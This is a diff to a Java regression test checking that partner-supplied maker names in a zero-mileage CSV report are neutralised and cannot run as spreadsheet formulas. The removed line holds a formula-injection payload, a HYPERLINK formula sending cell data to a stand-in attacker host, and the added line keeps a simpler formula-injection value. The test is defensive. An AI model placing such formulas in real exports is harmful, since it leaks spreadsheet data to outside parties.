@@ -85,7 +85,8 @@ class ReportTest {
     @Test
     void csvCellsFromPartnersCannotRunAsFormulas() {
         // issue 10 point 9: a maker stored from a partner reached the analysts' CSV as a live formula
-        String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\") " + System.nanoTime();
+        // (no double quotes: the registry stub below is built by string formatting)
+        String evil = "=HYPERLINK(A1&B1) " + System.nanoTime();
         String cc = Fixtures.creditCode();
         String vin = Fixtures.vin();
         Fixtures.registryHas(vin, "CN-SC", LocalDate.of(2026, 3, 1), 5, evil);
@@ -95,7 +96,7 @@ class ReportTest {
                 .queryParam("maker", evil).get("/api/v1/reports/zero-mileage").then().statusCode(200)
                 .contentType("text/csv").extract().asString();
         String row = csv.split("\n")[1];
-        assertEquals("\"'" + evil.replace("\"", "\"\"") + "\",1,1,1.0000", row);
+        assertEquals("'" + evil + ",1,1,1.0000", row);
     }
 
     @Test
